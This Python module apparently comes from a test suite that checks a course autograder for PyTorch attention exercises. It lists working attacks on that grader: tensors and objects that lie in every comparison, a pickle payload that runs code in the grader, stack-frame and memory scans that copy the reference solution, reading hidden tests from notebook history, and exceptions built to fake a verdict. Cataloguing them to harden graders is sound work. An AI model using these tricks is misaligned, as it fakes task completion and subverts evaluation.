"""Attacks by what a function is or returns: objects that lie about themselves, and functions that look at whoever calls them."""

# ruff: noqa: E501 - a line of an attack is as long as what it tries

from __future__ import annotations

from ..attack import Attack, code

BOTH = ("causal_mask", "merge_query_key")


def returning(expression: str, names: tuple[str, ...] = BOTH) -> dict[str, str]:
    """Return bodies that all return an expression, in which ``name`` and ``arguments`` are known."""
    return {name: f"def {name}(*given, **arguments):\n    name = {name!r}\n    return {expression}\n" for name in names}


ATTACKS = (
    Attack(
        name="a tensor that equals everything",
        story="Returns a tensor subclass whose __torch_function__ says yes to every comparison.",
        wants="full marks for any numbers",
        bodies=returning("zeros(arguments).as_subclass(Yes)"),
        cells=(
            code("""
                class Yes(torch.Tensor):
                    @classmethod
                    def __torch_function__(cls, func, types, args=(), kwargs=None):
                        name = getattr(func, "__name__", "")
                        if name in ("equal", "allclose", "is_nonzero", "__bool__"):
                            return True
                        if name in ("isclose", "eq", "__eq__", "le", "__le__", "isfinite", "all"):
                            return torch.tensor(True)
                        if name in ("detach", "to", "clone", "cpu", "contiguous", "double"):
                            return args[0]
                        with torch._C.DisableTorchFunctionSubclass():
                            return func(*args, **(kwargs or {}))
                    def __eq__(self, other):
                        return torch.tensor(True)
                    __hash__ = torch.Tensor.__hash__
                def zeros(arguments):
                    if "T" in arguments:
                        return torch.zeros(arguments["T"], arguments["T"], dtype=torch.bool)
                    a, b = arguments["w_q"], arguments["w_k"]
                    return torch.zeros(a.shape[0], b.shape[0], dtype=a.dtype) * (a.sum() + b.sum())
            """),
        ),
    ),
    Attack(
        name="a tensor that lies below Python",
        story="Returns a wrapper subclass whose __torch_dispatch__ answers every comparison with what the comparison hopes for.",
        wants="full marks for any numbers",
        bodies=returning("Lie(arguments)"),
        cells=(
            code("""
                class Lie(torch.Tensor):
                    @staticmethod
                    def __new__(cls, arguments):
                        if "T" in arguments:
                            shape, dtype = (arguments["T"],) * 2, torch.bool
                        else:
                            shape, dtype = (arguments["w_q"].shape[0], arguments["w_k"].shape[0]), arguments["w_q"].dtype
                        return torch.Tensor._make_wrapper_subclass(cls, shape, dtype=dtype)
                    def __init__(self, arguments):
                        pass
                    @classmethod
                    def __torch_dispatch__(cls, func, types, args=(), kwargs=None):
                        other = next((a for a in args if isinstance(a, torch.Tensor) and not isinstance(a, Lie)), None)
                        name = func.overloadpacket.__name__
                        if name in ("equal", "is_same_size", "_local_scalar_dense"):
                            return True
                        if name in ("sub", "abs", "ne"):
                            return torch.zeros(args[0].shape)
                        if other is not None:
                            return torch.ones_like(other, dtype=torch.bool)
                        return torch.ones(args[0].shape) if args and isinstance(args[0], torch.Tensor) else None
            """),
        ),
    ),
    Attack(
        name="an object that says it is a tensor",
        story="Returns an object whose __class__ is Tensor and whose every attribute and comparison is agreeable.",
        wants="full marks for nothing",
        bodies=returning("Anything()"),
        cells=(
            code("""
                class Anything:
                    @property
                    def __class__(self):
                        return torch.Tensor
                    def __getattr__(self, name):
                        return Anything()
                    def __call__(self, *a, **k):
                        return Anything()
                    def __eq__(self, other):
                        return True
                    __hash__ = object.__hash__
                    def __bool__(self):
                        return True
                    def __iter__(self):
                        return iter(())
                    def __array__(self, *a, **k):
                        import numpy
                        return numpy.zeros(1)
                    def __float__(self):
                        return 0.0
            """),
        ),
    ),
    Attack(
        name="code in a pickle",
        story="Returns objects whose __reduce__ names code, for a grader that moves results as pickles.",
        wants="code that runs in the grader",
        bodies=returning("[Pickled(), torch.zeros(1), {'key': Pickled()}]"),
        cells=(
            code("""
                class Pickled:
                    def __reduce__(self):
                        return exec, (f"open({OUTSIDE!r} + '/' + {MARK!r}, 'w').write('unpickled')",)
                    __getstate__ = lambda self: {}
            """),
        ),
    ),
    Attack(
        name="a class that is an instance of everything",
        story="Returns an object of a class whose metaclass claims every instance and every subclass.",
        wants="passing every question after a type",
        bodies=returning("All('All', (), {})"),
        cells=(
            code("""
                class All(type):
                    def __instancecheck__(cls, other):
                        return True
                    def __subclasscheck__(cls, other):
                        return True
                    def __eq__(cls, other):
                        return True
                    __hash__ = type.__hash__
                    shape = property(lambda cls: (cls,))
            """),
        ),
    ),
    Attack(
        name="subclasses of plain data",
        story="Returns subclasses of str, float, int, tuple and dict that equal everything and change between two looks.",
        wants="full marks for results that are compared as plain data",
        bodies=returning("Pair([Word('x'), Number(1), Whole(1), Map(a=1)])"),
        cells=(
            code("""
                def agreeable(base):
                    def yes(self, *a):
                        return True
                    own = dict(__eq__=yes, __ne__=lambda self, o: False, __lt__=yes, __le__=yes, __gt__=yes, __ge__=yes, __hash__=lambda self: 0)
                    return type("Agreeable", (base,), own)
                Word, Number, Whole, Pair, Map = (agreeable(base) for base in (str, float, int, tuple, dict))
                Number.__sub__ = Number.__rsub__ = lambda self, other: 0.0
                Pair.__len__ = lambda self: 0
                Map.items = lambda self: iter(int, 1)
            """),
        ),
    ),
    Attack(
        name="different on the second look",
        story="Returns generators and containers that hold something else each time they are gone through.",
        wants="passing the checks of form with one content and those of numbers with another",
        bodies=returning("Turning(arguments)"),
        cells=(
            code("""
                class Turning(list):
                    def __init__(self, arguments):
                        super().__init__([torch.zeros(1)])
                        self.turn = 0
                    def __iter__(self):
                        self.turn += 1
                        return (torch.full((2, 2), float(self.turn)) for _ in range(self.turn))
                    def __len__(self):
                        self.turn += 1
                        return self.turn
                    def __getitem__(self, index):
                        return torch.full((2, 2), float(self.turn))
            """),
        ),
    ),
    Attack(
        name="answers from the caller's frames",
        story="Walks up the stack to the frames of the checking engine, and answers with the expected values that it finds there.",
        wants="full marks by copying the key",
        bodies={
            name: f"def {name}(*given, **arguments):\n    return key({name!r}, arguments, given)\n" for name in BOTH
        },
        cells=(
            code("""
                import sys, types
                def key(name, arguments, given):
                    frame = sys._getframe()
                    while frame is not None:
                        for value in frame.f_locals.values():
                            reference = getattr(value, "reference", None)
                            if isinstance(reference, types.FunctionType) and reference.__name__ == name:
                                again = types.FunctionType(reference.__code__.replace(co_name="mine"), reference.__globals__)
                                again.__defaults__, again.__kwdefaults__ = reference.__defaults__, reference.__kwdefaults__
                                return again(*given, **arguments)
                        frame = frame.f_back
                    raise NotImplementedError("no key in sight")
            """),
        ),
    ),
    Attack(
        name="the reference found in memory",
        story="Goes through all objects of the process for the reference's code, and runs a copy of it.",
        wants="full marks by running the solution",
        bodies={
            name: f"def {name}(*given, **arguments):\n    return found({name!r})(*given, **arguments)\n"
            for name in BOTH
        },
        cells=(
            code("""
                import gc, types
                def found(name):
                    for item in gc.get_objects():
                        if isinstance(item, types.FunctionType) and item.__name__ == name and (item.__module__ or "").startswith("tfcourse"):
                            if "NotImplementedError" not in item.__code__.co_names:
                                again = types.FunctionType(item.__code__.replace(co_name="mine"), item.__globals__)
                                again.__defaults__, again.__kwdefaults__ = item.__defaults__, item.__kwdefaults__
                                return again
                    raise NotImplementedError("no reference in memory")
            """),
        ),
    ),
    Attack(
        name="the reference's source run again",
        story="Gets the source of the course's own solution with inspect, and defines it anew under the exercise's name.",
        wants="full marks by copying the solution",
        bodies={name: f"from tfcourse import attention\n{name} = copied({name!r})\n" for name in BOTH},
        cells=(
            code("""
                import inspect
                def copied(name):
                    from tfcourse import attention
                    space = dict(vars(attention))
                    exec(inspect.getsource(getattr(attention, name)), space)
                    return space[name]
            """),
        ),
    ),
    Attack(
        name="a name that changes",
        story="Gives the function a __name__ that differs each time it is asked for, so that a cheap check stands for a dear one.",
        wants="the points of another exercise",
        bodies={
            name: code(f"""
                class Named:
                    turns = 0
                    @property
                    def __name__(self):
                        Named.turns += 1
                        return "merge_query_key" if Named.turns % 2 else "causal_mask"
                    def __call__(self, *a, **k):
                        raise ValueError
                {name} = Named()
            """)
            for name in BOTH
        },
    ),
    Attack(
        name="inputs emptied",
        story="Empties, resizes and swaps the storage of the tensors it is given, so that the reference's answers lose their numbers too.",
        wants="an expected answer of the attacker's choice",
        bodies={
            "merge_query_key": code("""
                def merge_query_key(w_q, w_k):
                    shape = (w_q.shape[0], w_k.shape[0])
                    for x in (w_q, w_k):
                        with torch.no_grad():
                            x.zero_()
                            x.data.set_(torch.zeros_like(x))
                            x.untyped_storage().fill_(0)
                    w_q.untyped_storage().resize_(0)
                    return torch.zeros(shape)
            """),
        },
    ),
    Attack(
        name="a mode left switched on",
        story="Enters modes of PyTorch that rewrite every later function, and never leaves them.",
        wants="full marks from comparisons under its own mode",
        bodies=returning("torch.zeros(2, 2)"),
        cells=(
            code("""
                from torch.overrides import TorchFunctionMode
                class Agree(TorchFunctionMode):
                    def __torch_function__(self, func, types, args=(), kwargs=None):
                        if getattr(func, "__name__", "") in ("equal", "allclose"):
                            return True
                        result = func(*args, **(kwargs or {}))
                        if getattr(func, "__name__", "") in ("isclose", "eq", "le"):
                            return torch.ones_like(result, dtype=torch.bool)
                        return result
                Agree().__enter__()
                torch.set_default_dtype(torch.float64)
                torch.set_default_device("meta")
                torch.autograd.set_grad_enabled(False).__enter__()
            """),
        ),
    ),
    Attack(
        name="an exception that cannot be told",
        story="Raises an exception whose name, text and arguments all fail or are made to look like a verdict.",
        wants="an accident in the grader, or a verdict of its own",
        bodies={
            name: code(f"""
                class Verdict(BaseException):
                    score, max_score, findings = 4.0, 4.0, ()
                    def __str__(self):
                        raise self
                    __repr__ = __str__
                    args = property(lambda self: 1 / 0)
                    __traceback__ = property(lambda self: 1 / 0)
                def {name}(*a, **k):
                    raise Verdict
            """)
            for name in BOTH
        },
    ),
    Attack(
        name="answers remembered from the tests",
        story="Reads the test cells from the notebook's own history, and answers by what it finds of them.",
        wants="full marks by knowing the questions",
        bodies=returning("answer(name)"),
        cells=(
            code("""
                import inspect, linecache
                def answer(name):
                    seen = [text for text in get_ipython().user_ns.get("In", []) if "hidden=True" in text]
                    seen += ["".join(entry[2]) for entry in linecache.cache.values() if len(entry) > 2 and "hidden=True" in "".join(entry[2])]
                    if seen:
                        spill(*seen)
                        raise ValueError(" ".join(seen)[-80:])
                    raise ValueError("nothing seen")
            """),
        ),
    ),
)
